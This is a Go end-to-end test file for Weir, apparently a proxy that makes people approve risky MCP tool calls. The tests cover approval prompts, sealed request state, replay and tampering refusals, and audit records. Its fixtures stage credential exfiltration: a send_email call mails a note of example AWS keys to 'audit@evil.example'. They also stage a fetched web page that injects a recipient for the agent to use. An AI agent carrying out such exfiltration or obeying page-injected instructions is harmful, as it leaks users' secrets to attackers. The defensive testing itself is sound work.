package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/weir-sec/weir/internal/demo"
)

// End-to-end tests of human approval (ESCALATE), with real clients: the
// go-sdk client on 2025-11-25 (elicitation/create) and on 2026-07-28
// (input_required, retried by the SDK's multi-round-trip middleware), the
// TypeScript SDK client, raw JSON-RPC for the sealed request state, and a
// client without elicitation that a person approves from a terminal with
// the real `weir approvals`, `weir approve` and `weir deny`.
//
// Every scenario is one session (one WEIR_HOME and WEIR_SESSION) behind
// two proxies: the private read goes through one (notes read_note
// credentials, or web fetch for untrusted content) and the escalated sink
// call through the other (mail send_email). What reached the mail server
// is read from its journal.

// approvalPolicy is the default preset with exfiltration escalated instead
// of blocked: mailing the credentials note asks a person.
const approvalPolicy = "version: 1\nflow:\n  exfiltration: escalate\n"

// approvalTimeoutPolicy also shortens how long Weir waits for the answer.
const approvalTimeoutPolicy = approvalPolicy + "approval:\n  timeout: 2s\n"

// approvalTimeout is the timeout approvalTimeoutPolicy sets.
const approvalTimeout = 2 * time.Second

// The credentials note's secrets, which must never be at rest under
// WEIR_HOME or in weir's stderr.
var demoSecrets = []string{"AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI/K7MDENG", "Rotate them every ninety days"}

// The approval form's choices (the contract's requestedSchema).
const (
	choiceApprove        = "approve"
	choiceApproveSession = "approve_session"
	choiceDeny           = "deny"
)

var (
	approvalIDRe        = regexp.MustCompile("`weir approve ([a-z0-9]+)`")
	approvalIDFormRe    = regexp.MustCompile(`^[abcdefghjkmnpqrstuvwxyz2-9]{10}$`)
	elicitationIDRe     = regexp.MustCompile(`^"weir-approval-[0-9a-f]{32}"$`)
	base64URLRe         = regexp.MustCompile(`^[A-Za-z0-9_-]+$`)
	declinedRe          = regexp.MustCompile(`(?i)declined`)
	nobodyAnsweredRe    = regexp.MustCompile(`(?i)(nobody|no one|no person)[^.]*answer|not answered|did not answer|didn't answer|without an answer|unanswered`)
	needsApprovalIDText = "the user runs `weir approve %s` in a terminal (or `weir deny %s` to refuse it); then ask the agent to retry the same call."
)

type approvalFixture struct {
	env     *weirEnv
	policy  string
	journal string // the mail server's journal
}

func newApprovalFixture(t *testing.T, policyYAML string) *approvalFixture {
	t.Helper()
	f := &approvalFixture{env: newWeirEnv(t)}
	dir := t.TempDir()
	f.policy = filepath.Join(dir, "policy.yaml")
	f.journal = filepath.Join(dir, "sent.jsonl")
	if err := os.WriteFile(f.policy, []byte(policyYAML), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if t.Failed() {
			if out, err := exec.Command(weirBin, "audit", "tail", "-n", "40", "--json", "--file", filepath.Join(f.env.home, "audit.log")).CombinedOutput(); err == nil {
				t.Logf("audit log tail:\n%s", out)
			}
		}
	})
	return f
}

// argv is `weir run` in front of the named demo server.
func (f *approvalFixture) argv(name string) []string {
	server := []string{weirBin, "demo-server", name}
	if name == "mail" {
		server = append(server, "--journal", f.journal)
	}
	return f.env.wrap(name, server, "--policy", f.policy)
}

// environ is the proxies' environment; session "" keeps the fixture's.
func (f *approvalFixture) environ(session string) []string {
	env := *f.env
	if session != "" {
		env.session = session
	}
	return env.environ()
}

// sent is what the mail server has sent so far.
func (f *approvalFixture) sent(t *testing.T) []demo.Sent {
	t.Helper()
	s, err := demo.ReadJournal(f.journal)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func (f *approvalFixture) wantSent(t *testing.T, n int, why string) {
	t.Helper()
	if s := f.sent(t); len(s) != n {
		t.Errorf("%s: the mail server sent %d messages, want %d: %+v", why, len(s), n, s)
	}
}

// connectGo starts a proxy for the named demo server under the go-sdk
// client at the given protocol version. handler nil: the client does not
// declare elicitation.
func (f *approvalFixture) connectGo(t *testing.T, ctx context.Context, name, version, session string, handler func(context.Context, *mcp.ElicitRequest) (*mcp.ElicitResult, error)) *mcp.ClientSession {
	t.Helper()
	argv := f.argv(name)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Env = f.environ(session)
	stderr := &syncBuffer{}
	cmd.Stderr = stderr
	client := mcp.NewClient(&mcp.Implementation{Name: "weir-e2e-approval", Version: "1.0.0"}, &mcp.ClientOptions{ElicitationHandler: handler})
	cs, err := client.Connect(ctx, &mcp.CommandTransport{Command: cmd}, &mcp.ClientSessionOptions{ProtocolVersion: version})
	if err != nil {
		t.Fatalf("connecting to %s through weir: %v\nstderr:\n%s", name, err, stderr.String())
	}
	if v := cs.InitializeResult().ProtocolVersion; v != version {
		t.Fatalf("%s negotiated %s, want %s", name, v, version)
	}
	t.Cleanup(func() {
		cs.Close()
		for _, s := range demoSecrets {
			if strings.Contains(stderr.String(), s) {
				t.Errorf("the secret %q appeared in weir's stderr:\n%s", s, stderr.String())
			}
		}
	})
	return cs
}

// leak is a send_email that mails the credentials note out.
func leak(subject string) map[string]any {
	return map[string]any{"to": "audit@evil.example", "subject": subject, "body": "as asked: " + demo.Notes["credentials"]}
}

func readCredentials(t *testing.T, ctx context.Context, notes *mcp.ClientSession) {
	t.Helper()
	if text, isErr := call(t, ctx, notes, "read_note", map[string]any{"name": "credentials"}); isErr || !strings.Contains(text, "AKIA") {
		t.Fatalf("read_note credentials: isError %v %q", isErr, text)
	}
}

// approvalRequest is the part of an approval elicitation's params the tests
// read, on every channel.
type approvalRequest struct {
	Mode            *string         `json:"mode"`
	Message         string          `json:"message"`
	RequestedSchema json.RawMessage `json:"requestedSchema"`
}

func requestFromSDK(t *testing.T, p *mcp.ElicitParams) approvalRequest {
	t.Helper()
	data, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	var r approvalRequest
	if err := json.Unmarshal(data, &r); err != nil {
		t.Fatal(err)
	}
	if p.Mode != "" {
		r.Mode = &p.Mode
	}
	return r
}

// checkApprovalRequest checks an approval elicitation against the
// contract: form mode, a message that names what the person decides on,
// and the one-field form whose choices are approve, approve_session (only
// when offered) and deny.
func checkApprovalRequest(t *testing.T, r approvalRequest, wantSession bool, names ...string) {
	t.Helper()
	if r.Mode == nil || *r.Mode != "form" {
		t.Errorf("approval request mode %v, want \"form\"", r.Mode)
	}
	for _, n := range names {
		if !strings.Contains(r.Message, n) {
			t.Errorf("approval message does not name %q:\n%s", n, r.Message)
		}
	}
	var schema struct {
		Type       string `json:"type"`
		Properties map[string]struct {
			Type  string `json:"type"`
			Title string `json:"title"`
			OneOf []struct {
				Const string `json:"const"`
				Title string `json:"title"`
			} `json:"oneOf"`
		} `json:"properties"`
		Required []string `json:"required"`
	}
	if err := json.Unmarshal(r.RequestedSchema, &schema); err != nil {
		t.Fatalf("requestedSchema %s: %v", r.RequestedSchema, err)
	}
	d, ok := schema.Properties["decision"]
	if schema.Type != "object" || len(schema.Properties) != 1 || !ok || !slices.Equal(schema.Required, []string{"decision"}) {
		t.Fatalf("requestedSchema is not the one-field decision form: %s", r.RequestedSchema)
	}
	if d.Type != "string" || d.Title != "Decision" {
		t.Errorf("decision field: type %q title %q, want string, Decision", d.Type, d.Title)
	}
	titles := map[string]string{}
	var order []string
	for _, o := range d.OneOf {
		titles[o.Const] = o.Title
		order = append(order, o.Const)
	}
	want := []string{choiceApprove, choiceApproveSession, choiceDeny}
	if !wantSession {
		want = []string{choiceApprove, choiceDeny}
	}
	if !slices.Equal(order, want) {
		t.Errorf("decision choices %v, want %v", order, want)
	}
	if titles[choiceApprove] != "Allow this call once" || titles[choiceDeny] != "Refuse" {
		t.Errorf("choice titles %v, want approve \"Allow this call once\", deny \"Refuse\"", titles)
	}
	if s, ok := titles[choiceApproveSession]; ok && (!strings.HasPrefix(s, "Allow") || !strings.Contains(s, "for the rest of this session")) {
		t.Errorf("approve_session title %q, want \"Allow ... for the rest of this session...\"", s)
	}
}

func accept(decision string) *mcp.ElicitResult {
	return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"decision": decision}}
}

// elicitor is a go-sdk ElicitationHandler that records what it is asked
// and answers with the next queued answer (decline once they run out).
type elicitor struct {
	f       *approvalFixture
	mu      sync.Mutex
	asked   []*mcp.ElicitParams
	sentNow []int // what the mail server had sent when each request came
	answers []*mcp.ElicitResult
}

func (e *elicitor) handle(_ context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
	s, _ := demo.ReadJournal(e.f.journal)
	e.mu.Lock()
	defer e.mu.Unlock()
	e.asked = append(e.asked, req.Params)
	e.sentNow = append(e.sentNow, len(s))
	if len(e.answers) == 0 {
		return &mcp.ElicitResult{Action: "decline"}, nil
	}
	a := e.answers[0]
	e.answers = e.answers[1:]
	return a, nil
}

func (e *elicitor) queue(a ...*mcp.ElicitResult) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.answers = append(e.answers, a...)
}

// last returns the most recent request, failing unless exactly want have
// been asked in all.
func (e *elicitor) last(t *testing.T, want int) (*mcp.ElicitParams, int) {
	t.Helper()
	e.mu.Lock()
	defer e.mu.Unlock()
	if len(e.asked) != want {
		t.Fatalf("the client was asked %d times, want %d", len(e.asked), want)
	}
	return e.asked[want-1], e.sentNow[want-1]
}

// auditRecords returns every record of the audit log, decoded loosely.
func auditRecords(t *testing.T, home string) []map[string]any {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(home, "audit.log"))
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]any
	for _, line := range bytes.Split(data, []byte("\n")) {
		if len(bytes.TrimSpace(line)) == 0 {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatalf("audit line %q: %v", line, err)
		}
		out = append(out, m)
	}
	return out
}

// approvalAudits counts the audit log's approval records (an object, at
// any depth of a record, with "channel" and "answer") by channel/answer.
func approvalAudits(t *testing.T, home string) map[string]int {
	t.Helper()
	got := map[string]int{}
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			ch, ok1 := x["channel"].(string)
			an, ok2 := x["answer"].(string)
			if ok1 && ok2 {
				got[ch+"/"+an]++
				return
			}
			for _, e := range x {
				walk(e)
			}
		case []any:
			for _, e := range x {
				walk(e)
			}
		}
	}
	for _, r := range auditRecords(t, home) {
		walk(r)
	}
	return got
}

// The audit record's channels and answers, as the contract lists them.
var (
	contractChannels = []string{"elicitation", "input_required", "cli", "memory", "repeat"}
	contractAnswers  = []string{"approved", "approved_session", "declined", "timeout", "cancelled", "error", "client_gone", "pending", "refused"}
)

// wantAudits checks, in a subtest "audit", that the audit log has an
// approval record for each channel/answer in want, and that every
// approval record carries what the contract says it does: a channel and
// an answer from its lists, who answered, and latency_ms.
func wantAudits(t *testing.T, home string, want ...string) {
	t.Helper()
	t.Run("audit", func(t *testing.T) {
		// Records of calls that were let through may be written just after
		// their answer: give them a moment.
		got := approvalAudits(t, home)
		for deadline := time.Now().Add(3 * time.Second); time.Now().Before(deadline); got = approvalAudits(t, home) {
			if !slices.ContainsFunc(want, func(w string) bool { return got[w] == 0 }) {
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
		for _, w := range want {
			if got[w] == 0 {
				t.Errorf("no approval record %s in the audit log; approval records: %v", w, got)
			}
		}
		wrong := map[string]bool{}
		for _, r := range auditRecords(t, home) {
			ch, ok1 := r["channel"].(string)
			an, ok2 := r["answer"].(string)
			if !ok1 || !ok2 {
				continue
			}
			if !slices.Contains(contractChannels, ch) {
				wrong[fmt.Sprintf("channel %q is not one of %v", ch, contractChannels)] = true
			}
			if !slices.Contains(contractAnswers, an) {
				wrong[fmt.Sprintf("answer %q (channel %s) is not one of %v", an, ch, contractAnswers)] = true
			}
			if _, ok := r["answered_by"]; !ok && an != "pending" {
				wrong[fmt.Sprintf("no answered_by (channel %s, answer %s)", ch, an)] = true
			}
			if _, ok := r["latency_ms"]; !ok && an != "pending" {
				wrong[fmt.Sprintf("no latency_ms (channel %s, answer %s)", ch, an)] = true
			}
		}
		for _, w := range slices.Sorted(maps.Keys(wrong)) {
			t.Errorf("approval audit record: %s", w)
		}
	})
}

// assertNoDemoSecretAtRest checks every file under WEIR_HOME for the
// credentials note (DESIGN rule 2), pending approvals included.
func assertNoDemoSecretAtRest(t *testing.T, home string) {
	t.Helper()
	needles := append(slices.Clone(demoSecrets), base64.StdEncoding.EncodeToString([]byte("AKIAIOSFODNN7EXAMPLE"))[:16])
	filepath.WalkDir(home, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Errorf("reading %s: %v", path, err)
			return nil
		}
		for _, s := range needles {
			if bytes.Contains(data, []byte(s)) {
				t.Errorf("%s contains the credentials note (%q)", path, s)
			}
		}
		return nil
	})
}

// TestApprovalElicitationGoSDK: the go-sdk client on 2025-11-25 with an
// ElicitationHandler. The leak is held (nothing sent while the person is
// asked), the request names the tool, rule, source and argument path, and
// only an accepted approve or approve_session lets it through.
func TestApprovalElicitationGoSDK(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy)
	ctx := ctxT(t, 120*time.Second)
	el := &elicitor{f: f}
	notes := f.connectGo(t, ctx, "notes", "2025-11-25", "", nil)
	mail := f.connectGo(t, ctx, "mail", "2025-11-25", "", el.handle)
	readCredentials(t, ctx, notes)

	asked := 0
	t.Run("approve", func(t *testing.T) {
		el.queue(accept(choiceApprove))
		text, isErr := call(t, ctx, mail, "send_email", leak("approved"))
		asked++
		p, sentThen := el.last(t, asked)
		checkApprovalRequest(t, requestFromSDK(t, p), true, "mail/send_email", "flow.exfiltration", "notes/read_note", "$.body", "audit@evil.example")
		t.Logf("approval message:\n%s", p.Message)
		if sentThen != 0 {
			t.Errorf("the call reached the mail server before the person answered (%d sent)", sentThen)
		}
		if isErr || !strings.Contains(text, "sent to audit@evil.example") {
			t.Fatalf("approved call: isError %v %q", isErr, text)
		}
		if s := f.sent(t); len(s) != 1 || s[0].Subject != "approved" {
			t.Fatalf("the mail server sent %+v, want the approved message", s)
		}
	})
	for _, c := range []struct {
		name   string
		answer *mcp.ElicitResult
		says   *regexp.Regexp
	}{
		{"decline", &mcp.ElicitResult{Action: "decline"}, declinedRe},
		{"deny", accept(choiceDeny), declinedRe},
		{"cancel", &mcp.ElicitResult{Action: "cancel"}, regexp.MustCompile(`(?i)declined|dismissed|cancel`)},
	} {
		t.Run(c.name, func(t *testing.T) {
			el.queue(c.answer)
			text, isErr := call(t, ctx, mail, "send_email", leak(c.name))
			asked++
			el.last(t, asked)
			if !isErr || !contains(text, "mail/send_email", "flow.exfiltration") {
				t.Errorf("%s: isError %v %q", c.name, isErr, text)
			}
			if !c.says.MatchString(text) {
				t.Errorf("%s: the result does not say a person declined (%s): %q", c.name, c.says, text)
			}
			t.Logf("%s: %s", c.name, text)
			f.wantSent(t, 1, c.name)
		})
	}
	t.Run("approve_session", func(t *testing.T) {
		el.queue(accept(choiceApproveSession))
		if text, isErr := call(t, ctx, mail, "send_email", leak("for the session")); isErr {
			t.Fatalf("approved for the session: %q", text)
		}
		asked++
		el.last(t, asked)
		// The same tool to the same recipient runs without asking again.
		if text, isErr := call(t, ctx, mail, "send_email", leak("again")); isErr {
			t.Errorf("second call after approve_session: %q", text)
		}
		el.last(t, asked)
		f.wantSent(t, 3, "approve_session")
	})
	wantAudits(t, f.env.home, "elicitation/approved", "elicitation/declined", "memory/approved_session")
	assertNoDemoSecretAtRest(t, f.env.home)
	verifyAudit(t, f.env.home)
}

// TestApprovalElicitationUntrustedGoSDK: after a web page enters the
// session (preset integrity), a recipient copied from the page is
// escalated without the approve_session choice; a sink call whose
// recipient is the user's own but whose subject the page chose offers it;
// one that carries nothing from the page is not asked about at all.
func TestApprovalElicitationUntrustedGoSDK(t *testing.T) {
	f := newApprovalFixture(t, "version: 1\npreset: integrity\n")
	ctx := ctxT(t, 120*time.Second)
	el := &elicitor{f: f}
	web := f.connectGo(t, ctx, "web", "2025-11-25", "", nil)
	mail := f.connectGo(t, ctx, "mail", "2025-11-25", "", el.handle)
	if text, isErr := call(t, ctx, web, "fetch", map[string]any{"url": "https://tips.example/desk"}); isErr || !strings.Contains(text, "audit@evil.example") {
		t.Fatalf("fetch: %q", text)
	}

	el.queue(accept(choiceApprove))
	text, isErr := call(t, ctx, mail, "send_email", map[string]any{"to": "audit@evil.example", "subject": "sync", "body": "hello"})
	p, _ := el.last(t, 1)
	checkApprovalRequest(t, requestFromSDK(t, p), false, "mail/send_email", "flow.tainted_args", "web/fetch", "$.to", "audit@evil.example")
	if isErr {
		t.Fatalf("approved call: %q", text)
	}
	f.wantSent(t, 1, "approved tainted recipient")

	el.queue(&mcp.ElicitResult{Action: "decline"})
	text, isErr = call(t, ctx, mail, "send_email", map[string]any{"to": "sam@example.com", "subject": "sync", "body": "noon?"})
	p, _ = el.last(t, 2)
	checkApprovalRequest(t, requestFromSDK(t, p), true, "mail/send_email", "flow.integrity", "web/fetch")
	if !isErr || !declinedRe.MatchString(text) {
		t.Errorf("declined call: isError %v %q", isErr, text)
	}
	f.wantSent(t, 1, "declined")

	if text, isErr := call(t, ctx, mail, "send_email", map[string]any{"to": "sam@example.com", "subject": "lunch", "body": "noon?"}); isErr {
		t.Fatalf("a call nothing on the page chose: %q", text)
	}
	el.last(t, 2) // a call nothing on the page chose is not asked about
	f.wantSent(t, 2, "not steered")
	wantAudits(t, f.env.home, "elicitation/approved", "elicitation/declined")
}

// TestApprovalInputRequiredGoSDK: the go-sdk client on 2026-07-28. Weir
// answers with input_required; the SDK's multi-round-trip middleware calls
// the ElicitationHandler and retries with the sealed requestState.
func TestApprovalInputRequiredGoSDK(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy)
	ctx := ctxT(t, 120*time.Second)
	el := &elicitor{f: f}
	notes := f.connectGo(t, ctx, "notes", "2026-07-28", "", nil)
	mail := f.connectGo(t, ctx, "mail", "2026-07-28", "", el.handle)
	readCredentials(t, ctx, notes)

	t.Run("approve", func(t *testing.T) {
		el.queue(accept(choiceApprove))
		text, isErr := call(t, ctx, mail, "send_email", leak("approved"))
		p, sentThen := el.last(t, 1)
		checkApprovalRequest(t, requestFromSDK(t, p), true, "mail/send_email", "flow.exfiltration", "notes/read_note", "$.body", "audit@evil.example")
		t.Logf("approval message:\n%s", p.Message)
		if sentThen != 0 {
			t.Errorf("the call reached the mail server before the person answered (%d sent)", sentThen)
		}
		if isErr || !strings.Contains(text, "sent to audit@evil.example") {
			t.Fatalf("approved call: isError %v %q", isErr, text)
		}
		f.wantSent(t, 1, "approved")
	})
	t.Run("decline", func(t *testing.T) {
		el.queue(&mcp.ElicitResult{Action: "decline"})
		text, isErr := call(t, ctx, mail, "send_email", leak("declined"))
		el.last(t, 2)
		if !isErr || !declinedRe.MatchString(text) || !contains(text, "mail/send_email", "flow.exfiltration") {
			t.Errorf("declined call: isError %v %q", isErr, text)
		}
		f.wantSent(t, 1, "declined")
	})
	wantAudits(t, f.env.home, "input_required/approved", "input_required/declined")
	assertNoDemoSecretAtRest(t, f.env.home)
	verifyAudit(t, f.env.home)
}

// modernMeta is the 2026-07-28 per-request _meta of a client that declares
// elicitation.
const modernMeta = `"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientInfo":{"name":"raw","version":"1"},"io.modelcontextprotocol/clientCapabilities":{"elicitation":{"form":{}}}}`

// modernCall is a 2026-07-28 tools/call; extra are more params members.
func modernCall(id, tool string, args any, extra string) string {
	a, _ := json.Marshal(args)
	if extra != "" {
		extra = "," + extra
	}
	return `{"jsonrpc":"2.0","id":` + id + `,"method":"tools/call","params":{"name":"` + tool + `","arguments":` + string(a) + `,` + modernMeta + extra + `}}`
}

// retryMembers are the members of the retry of an input_required call.
func retryMembers(state string, answer string) string {
	return `"inputResponses":{"weir_approval":` + answer + `},"requestState":` + string(mustJSON(state))
}

const approveAnswer = `{"action":"accept","content":{"decision":"approve"}}`

// modernPeer starts a raw 2026-07-28 client of the named proxy.
func (f *approvalFixture) modernPeer(t *testing.T, name, session string) (*peer, *transcript) {
	t.Helper()
	p := startPeer(t, f.environ(session), f.argv(name)...)
	tr := &transcript{}
	p.send(`{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{` + modernMeta + `}}`)
	if m := tr.await(t, p, "1"); m.Error != nil {
		t.Fatalf("server/discover: %+v", m.Error)
	}
	return p, tr
}

type inputRequiredResult struct {
	ResultType    string `json:"resultType"`
	InputRequests map[string]struct {
		Method string          `json:"method"`
		Params approvalRequest `json:"params"`
	} `json:"inputRequests"`
	RequestState string `json:"requestState"`
	IsError      bool   `json:"isError"`
}

// askState makes the call and returns the requestState of the
// input_required answer, after checking the answer against the contract.
func askState(t *testing.T, p *peer, tr *transcript, id, tool string, args any) string {
	t.Helper()
	p.send(modernCall(id, tool, args, ""))
	m := tr.await(t, p, id)
	if m.Error != nil {
		t.Fatalf("call %s: error %+v", id, m.Error)
	}
	var r inputRequiredResult
	if err := json.Unmarshal(m.Result, &r); err != nil {
		t.Fatalf("result %s: %v", m.Result, err)
	}
	ir, ok := r.InputRequests["weir_approval"]
	if r.ResultType != "input_required" || !ok || len(r.InputRequests) != 1 || ir.Method != "elicitation/create" {
		t.Fatalf("call %s: not an input_required approval request: %s", id, m.Result)
	}
	if !strings.HasPrefix(r.RequestState, "weir1.") || !base64URLRe.MatchString(strings.TrimPrefix(r.RequestState, "weir1.")) {
		t.Errorf("requestState %q is not weir1.<base64url>", r.RequestState)
	}
	return r.RequestState
}

// wantRefused checks a retry was refused with -32602 and returns the
// message.
func wantRefused(t *testing.T, m msg, what string) string {
	t.Helper()
	if m.Error == nil {
		t.Errorf("%s: answered with a result, want a -32602 error: %s", what, m.Result)
		return ""
	}
	if m.Error.Code != -32602 {
		t.Errorf("%s: error %d %q, want code -32602", what, m.Error.Code, m.Error.Message)
	}
	t.Logf("%s: %d %s", what, m.Error.Code, m.Error.Message)
	return m.Error.Message
}

// TestApprovalInputRequiredSealedState drives the 2026-07-28 round trip
// with raw messages: the input_required answer's shape, then retries whose
// requestState was tampered with, replayed, issued to another session, or
// issued for other arguments. Each is refused with a JSON-RPC error that
// says why, and nothing reaches the mail server.
func TestApprovalInputRequiredSealedState(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy+"tools:\n  - {match: \"fake:echo\", labels: [sink]}\n")
	ctx := ctxT(t, 120*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2026-07-28", "", nil)
	readCredentials(t, ctx, notes)
	mail, tr := f.modernPeer(t, "mail", "")

	t.Run("input_required", func(t *testing.T) {
		p := startPeer(t, f.environ(""), f.argv("mail")...)
		ptr := &transcript{}
		p.send(modernCall("2", "send_email", leak("shape"), ""))
		m := ptr.await(t, p, "2")
		var r inputRequiredResult
		if err := json.Unmarshal(m.Result, &r); err != nil || m.Error != nil {
			t.Fatalf("result %s, error %+v: %v", m.Result, m.Error, err)
		}
		if r.ResultType != "input_required" || r.IsError {
			t.Fatalf("resultType %q isError %v: %s", r.ResultType, r.IsError, m.Result)
		}
		ir := r.InputRequests["weir_approval"]
		if ir.Method != "elicitation/create" {
			t.Fatalf("inputRequests: %s", m.Result)
		}
		checkApprovalRequest(t, ir.Params, true, "mail/send_email", "flow.exfiltration", "notes/read_note", "$.body", "audit@evil.example")
		f.wantSent(t, 0, "input_required")
	})

	t.Run("tampered", func(t *testing.T) {
		base := len(f.sent(t))
		args := leak("tampered")
		state := askState(t, mail, tr, "10", "send_email", args)
		b := []byte(state)
		i := len("weir1.") + (len(b)-len("weir1."))/2
		if b[i] == 'A' {
			b[i] = 'B'
		} else {
			b[i] = 'A'
		}
		mail.send(modernCall("11", "send_email", args, retryMembers(string(b), approveAnswer)))
		wantRefused(t, tr.await(t, mail, "11"), "tampered state")
		forged := "weir1." + base64.RawURLEncoding.EncodeToString(bytes.Repeat([]byte{7}, 120))
		mail.send(modernCall("12", "send_email", args, retryMembers(forged, approveAnswer)))
		wantRefused(t, tr.await(t, mail, "12"), "forged state")
		f.wantSent(t, base, "tampered")
	})

	t.Run("replayed", func(t *testing.T) {
		base := len(f.sent(t))
		args := leak("replayed")
		state := askState(t, mail, tr, "20", "send_email", args)
		mail.send(modernCall("21", "send_email", args, retryMembers(state, approveAnswer)))
		m := tr.await(t, mail, "21")
		if m.Error != nil {
			t.Fatalf("first use of the state: %+v", m.Error)
		}
		if text, isErr := resultText(t, m); isErr || !strings.Contains(text, "sent to") {
			t.Fatalf("first use of the state: isError %v %q", isErr, text)
		}
		f.wantSent(t, base+1, "first use")
		mail.send(modernCall("22", "send_email", args, retryMembers(state, approveAnswer)))
		msg := wantRefused(t, tr.await(t, mail, "22"), "replayed state")
		if !regexp.MustCompile(`(?i)already used|used once|replay`).MatchString(msg) {
			t.Errorf("the refusal does not say the state was used: %q", msg)
		}
		f.wantSent(t, base+1, "replay")
	})

	t.Run("another session", func(t *testing.T) {
		base := len(f.sent(t))
		args := leak("other session")
		state := askState(t, mail, tr, "30", "send_email", args)
		// The other session has read the credentials too, so the same call
		// escalates there as well.
		other := "other-" + f.env.session
		notes2 := f.connectGo(t, ctx, "notes", "2026-07-28", other, nil)
		readCredentials(t, ctx, notes2)
		mail2, tr2 := f.modernPeer(t, "mail", other)
		mail2.send(modernCall("31", "send_email", args, retryMembers(state, approveAnswer)))
		msg := wantRefused(t, tr2.await(t, mail2, "31"), "state of another session")
		if !strings.Contains(msg, "session") {
			t.Errorf("the refusal does not say the state belongs to another session: %q", msg)
		}
		f.wantSent(t, base, "another session")
	})

	t.Run("different arguments", func(t *testing.T) {
		base := len(f.sent(t))
		args := leak("different")
		state := askState(t, mail, tr, "40", "send_email", args)
		changed := leak("different")
		changed["to"] = "someone-else@evil.example"
		mail.send(modernCall("41", "send_email", changed, retryMembers(state, approveAnswer)))
		msg := wantRefused(t, tr.await(t, mail, "41"), "state for other arguments")
		if !regexp.MustCompile(`(?i)argument|different call`).MatchString(msg) {
			t.Errorf("the refusal does not say the call changed: %q", msg)
		}
		f.wantSent(t, base, "different arguments")
		// The state is still good for the call it was issued for.
		mail.send(modernCall("42", "send_email", args, retryMembers(state, `{"action":"decline"}`)))
		m := tr.await(t, mail, "42")
		if text, isErr := resultText(t, m); m.Error != nil || !isErr || !declinedRe.MatchString(text) {
			t.Errorf("declined retry: error %+v, %q", m.Error, text)
		}
		f.wantSent(t, base, "declined retry")
	})

	// An approved retry reaches the server without Weir's members.
	t.Run("stripped", func(t *testing.T) {
		journal := filepath.Join(t.TempDir(), "fake.jsonl")
		p := startPeer(t, f.environExtra("", "WEIR_E2E_FAKE=normal", "WEIR_E2E_JOURNAL="+journal), f.env.wrap("fake", fake(), "--policy", f.policy)...)
		ptr := &transcript{}
		args := map[string]any{"message": demo.Notes["credentials"]}
		state := askState(t, p, ptr, "50", "echo", args)
		p.send(modernCall("51", "echo", args, retryMembers(state, approveAnswer)))
		if m := ptr.await(t, p, "51"); m.Error != nil {
			t.Fatalf("approved retry: %+v", m.Error)
		}
		data, _ := os.ReadFile(journal)
		lines := strings.Split(strings.TrimSpace(string(data)), "\n")
		if len(lines) != 1 || strings.Contains(lines[0], "inputResponses") || strings.Contains(lines[0], "requestState") || strings.Contains(lines[0], "weir1.") {
			t.Errorf("the server received:\n%s", data)
		}
	})
	verifyAudit(t, f.env.home)
}

// TestApprovalInputRequiredExpired: a requestState retried after
// approval.ttl (10 s, the shortest the policy allows) is refused with a
// JSON-RPC error that says it expired, and nothing is sent.
func TestApprovalInputRequiredExpired(t *testing.T) {
	const ttl = 10 * time.Second
	f := newApprovalFixture(t, approvalPolicy+"approval:\n  ttl: 10s\n")
	ctx := ctxT(t, 120*time.Second)
	notes := f.connectGo(t, ctx, "notes", "2026-07-28", "", nil)
	readCredentials(t, ctx, notes)
	mail, tr := f.modernPeer(t, "mail", "")
	args := leak("expired")
	state := askState(t, mail, tr, "10", "send_email", args)
	time.Sleep(ttl + time.Second)
	mail.send(modernCall("11", "send_email", args, retryMembers(state, approveAnswer)))
	msg := wantRefused(t, tr.await(t, mail, "11"), "expired state")
	if !regexp.MustCompile(`(?i)expired`).MatchString(msg) {
		t.Errorf("the refusal does not say the state expired: %q", msg)
	}
	f.wantSent(t, 0, "expired")
}

// environ with extra variables (the fake server's).
func (f *approvalFixture) environExtra(session string, extra ...string) []string {
	return append(f.environ(session), extra...)
}

// TestApprovalTypeScriptElicitation: the TypeScript SDK client, with a
// handler registered via client.setRequestHandler(ElicitRequestSchema,
// ...), approves one leak and declines the next.
func TestApprovalTypeScriptElicitation(t *testing.T) {
	f := newApprovalFixture(t, approvalPolicy)
	script := npmPeer(t, "elicit-client.mjs")
	server := func(name string) map[string]any {
		argv := f.argv(name)
		return map[string]any{
			"command": argv[0],
			"args":    argv[1:],
			"env":     map[string]string{"WEIR_HOME": f.env.home, "WEIR_SESSION": f.env.session},
		}
	}
	got := runElicitClient(t, script, map[string]any{
		"servers": map[string]any{"notes": server("notes"), "mail": server("mail")},
		"answers": []any{accept(choiceApprove), map[string]any{"action": "decline"}},
		"calls": []map[string]any{
			{"server": "notes", "tool": "read_note", "arguments": map[string]string{"name": "credentials"}},
			{"server": "mail", "tool": "send_email", "arguments": leak("approved")},
			{"server": "mail", "tool": "send_email", "arguments": leak("declined")},
		},
	})
	if v := got.ProtocolVersions["mail"]; v != "2025-11-25" {
		t.Errorf("the TypeScript client negotiated %q with mail", v)
	}
	if len(got.Results) != 3 {
		t.Fatalf("%d results: %+v", len(got.Results), got.Results)
	}
	if r := got.Results[0]; r.IsError || r.Error != "" {
		t.Fatalf("read_note: %+v", r)
	}
	if r := got.Results[1]; r.IsError || r.Error != "" || !strings.Contains(r.Text, "sent to audit@evil.example") {
